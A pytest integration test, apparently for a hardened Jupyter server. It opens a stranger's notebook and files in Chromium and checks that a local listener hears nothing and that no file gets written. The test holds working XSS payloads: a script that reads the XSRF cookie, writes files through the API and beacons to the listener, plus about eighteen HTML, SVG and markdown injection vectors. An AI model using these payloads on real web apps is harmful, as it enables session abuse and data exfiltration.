"""A stranger's notebook and files in real Chromium: nothing calls out, and nothing uses the person's login.

Verdicts come from a listener elsewhere, which hears nothing, and from the folder, where no file appears.
"""

import json

import pytest

from tests.integration import browser
from tests.integration.listening import elsewhere
from tests.integration.server_process import PASSWORD, STAND_IN, Server

pytestmark = pytest.mark.slow

CONFIG = f"""
import sys
from jupyter_secure.server import broker_process
broker_process.COMMAND = (sys.executable, "-I", {str(STAND_IN)!r})
"""
# Writes a file through the interface of the server, and tells somebody elsewhere.
ACT = (
    "fetch('/api/contents/@name@.txt',{method:'PUT',credentials:'include',headers:{'X-XSRFToken':"
    "(document.cookie.match('_xsrf=([^;]*)')||[])[1]},body:JSON.stringify({type:'file',format:'text',content:'x'})});"
    "fetch('@there@/@name@');new Image().src='@there@/img-@name@';navigator.sendBeacon('@there@/beacon-@name@')"
)
HTML = {
    "script": "<script>@act@</script>",
    "image": '<img src="@there@/image">',
    "error": '<img src="x" onerror="@act@">',
    "frame": '<iframe src="@there@/frame"></iframe>',
    "document": '<iframe srcdoc="<script>@act@</script><img src=@there@/document>"></iframe>',
    "svg": '<svg onload="@act@"><image href="@there@/svg"/></svg>',
    "import": '<style>@import url("@there@/import");</style>',
    "style": '<style>p.hostile {background: url("@there@/style")}</style><p class="hostile">x</p>',
    "link": '<link rel="stylesheet" href="@there@/link"><link rel="prefetch" href="@there@/prefetch">',
    "refresh": '<meta http-equiv="refresh" content="0;url=@there@/refresh">',
    "base": '<base href="@there@/">',
    "object": '<object data="@there@/object"></object><embed src="@there@/embed">',
    "video": '<video poster="@there@/poster" src="@there@/video" autoplay></video>',
    "audio": '<audio src="@there@/audio" autoplay></audio>',
    "toggle": '<details open ontoggle="@act@"><summary>x</summary></details>',
    "focus": '<input autofocus onfocus="@act@">',
    "form": '<form action="@there@/form"><button class="hostile-button">go</button></form>',
    "click": '<a class="hostile-link" href="javascript:@act@">go</a>',
}
END = "the last line of the notebook"


def hostile(text, name, there):
    return text.replace("@act@", ACT).replace("@name@", f"evil-{name}").replace("@there@", there)


def output(kind, text):
    return {"output_type": "display_data", "metadata": {}, "data": {kind: text}}


def notebook(there):
    outputs = [output("text/html", hostile(text, f"html-{name}", there)) for name, text in HTML.items()]
    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><script>{ACT}</script><image href="@there@/svg"/></svg>'
    outputs += [
        output("image/svg+xml", hostile(svg, "vector", there)),
        output("application/javascript", hostile(ACT, "javascript", there)),
        output("text/markdown", hostile("![x](@there@/md) [y](javascript:@act@) " + HTML["error"], "markdown", there)),
        output("text/latex", "$$\\href{javascript:alert(1)}{x}$$"),
    ]
    cells = [{"cell_type": "code", "id": "a", "execution_count": 1, "metadata": {}, "source": "1", "outputs": outputs}]
    text = "\n\n".join([*HTML.values(), "![x](@there@/cell) [y](javascript:@act@)"])
    cells.append({"cell_type": "markdown", "id": "b", "metadata": {}, "source": hostile(text, "cell", there)})
    cells.append({"cell_type": "markdown", "id": "c", "metadata": {}, "source": END})
    kernel = {"display_name": "Python 3", "language": "python", "name": "python3"}
    return {"cells": cells, "metadata": {"kernelspec": kernel}, "nbformat": 4, "nbformat_minor": 5}


@pytest.fixture(scope="module")
def listener():
    with elsewhere() as listening:
        yield listening


@pytest.fixture(scope="module")
def server(tmp_path_factory, listener):
    server = Server(tmp_path_factory.mktemp("hostile"), config=CONFIG, program="jupyterlab")
    (server.root / "stranger.ipynb").write_text(json.dumps(notebook(listener.url)))
    page = "".join(hostile(text, f"file-{name}", listener.url) for name, text in HTML.items() if name != "refresh")
    (server.root / "stranger.html").write_text(f"<body>{page}<script src='stranger.js'></script><p>{END}</p></body>")
    (server.root / "stranger.js").write_text(hostile(ACT, "own-script", listener.url))
    (server.root / "stranger.svg").write_text(
        hostile(f'<svg xmlns="http://www.w3.org/2000/svg"><script>{ACT}</script></svg>', "file-svg", listener.url)
    )
    try:
        yield server.wait_until_ready()
    finally:
        server.stop()


@pytest.fixture(scope="module")
def chromium():
    with browser.chromium() as opened:
        yield opened


@pytest.fixture
def page(server, chromium, listener):
    listener.heard.clear()
    with browser.page(chromium) as page:
        page.goto(f"{server.url}/login?next=/api/status")
        page.get_by_label("Name").fill("ann")
        page.get_by_label("Password").fill(PASSWORD)
        page.get_by_role("button", name="Log in").click()
        page.wait_for_url("**/api/status")
        yield page
        page.wait_for_timeout(1000)  # whatever was sent has arrived by now
    assert listener.heard == []
    assert [path.name for path in server.root.iterdir() if path.name.startswith("evil")] == []


def test_the_listener_would_hear(chromium, listener):
    """The same page from a server without our headers calls out, so that silence means something."""
    body = hostile("".join(HTML[name] for name in ("script", "image", "style")), "x", listener.url).encode()
    with elsewhere(body) as plain:
        context = chromium.new_context()
        page = context.new_page()
        page.goto(plain.url)
        page.wait_for_timeout(1000)
        context.close()
    assert {"/evil-x", "/img-evil-x", "/beacon-evil-x", "/image", "/style"} <= set(listener.heard)


def test_a_strangers_notebook_does_nothing(server, page):
    page.goto(f"{server.url}/lab/tree/stranger.ipynb")
    page.locator("p", has_text=END).wait_for(timeout=60_000)
    for hook in (".hostile-link", ".hostile-button"):
        for found in page.locator(f".jp-Notebook {hook}").all():
            found.click(force=True, no_wait_after=True)
    assert "/lab" in page.url


def test_a_strangers_page_in_the_viewer_does_nothing(server, page):
    page.goto(f"{server.url}/lab/tree/stranger.html")
    page.locator(".jp-HTMLViewer").wait_for(timeout=60_000)
    page.frame_locator(".jp-HTMLViewer iframe").get_by_text(END).wait_for(timeout=60_000)


@pytest.mark.parametrize("name", ["stranger.html", "stranger.svg"])
def test_a_strangers_file_opened_by_its_address_does_nothing(server, page, name):
    page.goto(f"{server.url}/files/{name}")
    answer = page.request.get(f"{server.url}/files/{name}")
    assert "sandbox" in answer.headers["content-security-policy"]
